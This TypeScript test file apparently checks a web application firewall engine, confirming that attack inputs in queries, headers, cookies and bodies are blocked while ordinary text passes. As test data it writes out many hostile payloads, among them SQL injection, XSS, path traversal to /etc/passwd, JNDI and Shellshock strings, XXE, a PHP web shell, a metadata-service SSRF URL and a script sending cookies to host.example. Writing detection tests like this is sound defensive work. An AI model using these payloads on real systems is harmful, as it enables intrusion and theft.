// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks are written so.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { planWithPolicy } from '../../../test/policy-of.ts';
import { ScriptedEnvoy } from '../../../test/scripted-envoy.ts';
import { engineRegistry } from '../registry.ts';

const envoy = (baseline: object = {}, more: object = {}) =>
  new ScriptedEnvoy({
    plan: planWithPolicy({ engines: { baseline }, sampling_rate: 1, timeout: '10s', ...more }),
  });
const found = (script: ScriptedEnvoy) => script.records[0]?.findings.map(({ finding }) => finding) ?? [];
const posted = (type: string, body: string, script = envoy()) =>
  script
    .requestHeaders({ ':method': 'POST', 'content-type': type, 'content-length': String(body.length) }, false)
    .requestBody(body, true);

const attacks: ReadonlyArray<readonly [where: string, headers: Record<string, string>]> = [
  ['request.query.q', { ':path': "/?q=1'%20or%20'1'='1" }],
  ['request.query.q', { ':path': '/?a=1&q=%253Cscript%253Ealert(1)%253C/script%253E' }],
  ['request.path', { ':path': '/static/..%2f..%2f..%2fetc%2fpasswd' }],
  ['request.path', { ':path': '/.git/config' }],
  ['request.headers.user-agent', { 'user-agent': '${jndi:ldap://host.example/a}' }],
  ['request.headers.referer', { referer: '() { :;}; /bin/sh -c id' }],
  ['request.headers.x-forwarded-for', { 'x-forwarded-for': '127.0.0.1; cat /etc/passwd' }],
  ['request.cookies.last', { cookie: 'a=b; last=1%20union%20select%201,2,3' }],
  ['request.headers.user-agent', { 'user-agent': 'sqlmap/1.8' }],
  ['request.headers.x-original-url', { 'x-original-url': '/admin' }],
];
for (const [where, headers] of attacks) {
  test(`an attack in ${where} is blocked: ${Object.values(headers)[0]}`, () => {
    const script = envoy().requestHeaders(headers, true).end();
    assert.equal(script.last?.status, 403);
    assert.equal(found(script)[0]?.where, where);
  });
}

const bodies: ReadonlyArray<readonly [name: string, where: string, type: string, body: string]> = [
  [
    'a form',
    'request.body.c',
    'application/x-www-form-urlencoded',
    'a=1&c=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E',
  ],
  ['JSON', 'request.body.json.a.b', 'application/json', '{"a":{"b":"1; drop table users--"}}'],
  [
    'JSON escapes',
    'request.body.json.a',
    'application/json',
    '{"a":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
  ],
  ['a key of JSON', 'request.body.json.__proto__.x', 'application/json', '{"__proto__":{"x":"y"}}'],
  [
    'XML',
    'request.body.!DOCTYPE',
    'text/xml',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  ],
  ['a body without a type', 'request.body', 'unknown/type', '| cat /etc/passwd'],
  ['JSON that breaks off', 'request.body', 'application/json', '{"a":"b", c: ${jndi:ldap://h.example/x}'],
  [
    'a file name',
    'request.body.f',
    'multipart/form-data; boundary=b',
    '--b\r\nContent-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\n\r\nx\r\n--b--\r\n',
  ],
];
for (const [name, where, type, body] of bodies) {
  test(`an attack in ${name} is blocked`, () => {
    const script = posted(type, body).end();
    assert.equal(script.last?.status, 403);
    assert.equal(found(script).find(({ engine }) => engine === 'baseline')?.where, where);
  });
}

test('base64 is looked into', () => {
  const text = encodeURIComponent(Buffer.from('<script>alert(1)</script>').toString('base64'));
  assert.equal(envoy().requestHeaders({ ':path': `/?q=${text}` }, true).last?.status, 403);
});

test('ordinary requests pass without a finding', () => {
  const script = envoy().requestHeaders({ ':path': "/?q=O'Brien+%26+sons" }, true).end();
  assert.equal(script.last?.kind, 'requestHeaders');
  assert.deepEqual(found(script), []);
});

test('in a longer text of a body code is noted and does not block; in a query it blocks', () => {
  const text = `I have a question about the following code, which I found in an old book about web pages and do not understand at all, so please help me with it. <button onclick="doSave()">Save</button>`;
  const script = posted('application/json', JSON.stringify({ text })).end();
  assert.equal(script.last?.kind, 'requestBody');
  assert.deepEqual(
    found(script)
      .map(({ effect }) => effect)
      .filter((effect) => effect === 'block'),
    [],
  );
  assert.ok(found(script).length > 0);
  assert.equal(
    envoy().requestHeaders({ ':path': `/?q=${encodeURIComponent(text)}` }, true).last?.status,
    403,
  );
});

test('classes, exclude_rules and confidence choose what runs and what blocks', () => {
  const path = { ':path': "/?q=1'%20or%20'1'='1" };
  assert.equal(envoy({ classes: ['xss'] }).requestHeaders(path, true).last?.kind, 'requestHeaders');
  const out = { exclude_rules: ['baseline.sqli.'] };
  assert.equal(envoy(out).requestHeaders(path, true).last?.kind, 'requestHeaders');
  const remote = { ':path': '/?f=http://host.example/shell.txt?' };
  assert.equal(envoy().requestHeaders(remote, true).last?.kind, 'requestHeaders');
  assert.equal(envoy({ confidence: 'medium' }).requestHeaders(remote, true).last?.status, 403);
});

test('an unknown rule in exclude_rules refuses the configuration', () => {
  const definition = engineRegistry.find(({ name }) => name === 'baseline');
  const reports: unknown[] = [];
  const context = {
    folder: '/',
    listFolder: () => [],
    readFile: () => undefined,
    secret: () => undefined,
    pattern: () => undefined,
    report: (...report: unknown[]) => reports.push(report),
  };
  assert.equal(definition?.compile({ exclude_rules: ['baseline.nothing'] }, context), undefined);
  assert.equal(reports.length, 1);
});

test('detect finds in every place and says each rule once; secrets do not become evidence', () => {
  const attack = encodeURIComponent("hunter2' or '1'='1");
  const script = envoy({}, { mode: 'detect' })
    .requestHeaders({ ':path': `/?password=${attack}&b=${attack}`, cookie: `sid=${attack}` }, true)
    .end();
  assert.equal(script.last?.kind, 'requestHeaders');
  const ids = found(script).map(({ ruleId }) => ruleId);
  assert.equal(new Set(ids).size, ids.length);
  assert.ok(!JSON.stringify(found(script)).includes('hunter2'));
});

const words =
  'We were very happy with the room and the people were friendly, so that we shall come back next summer with the whole family and with some of our friends, if the weather is as good as it was this year. ';
for (const attack of [
  "x' union select card, pin from customers -- ",
  "' or '1'='1",
  '<img src=x onerror=alert(1)>',
  '<script>fetch("//host.example/?"+document.cookie)</script>',
  '; cat /etc/passwd',
  'http://169.254.169.254/latest/meta-data/iam/',
  '{{7*7}}',
  "<?php system($_GET['c']); ?>",
]) {
  test(`words around an attack do not help it: ${attack}`, () => {
    for (const text of [
      words + attack,
      `${words}${attack} ${words}`,
      `one\ntwo\nthree\n${attack}\n${words}`,
    ]) {
      const status = posted('application/json', JSON.stringify({ text })).end().last?.status;
      assert.equal(status, 403, text);
    }
  });
}
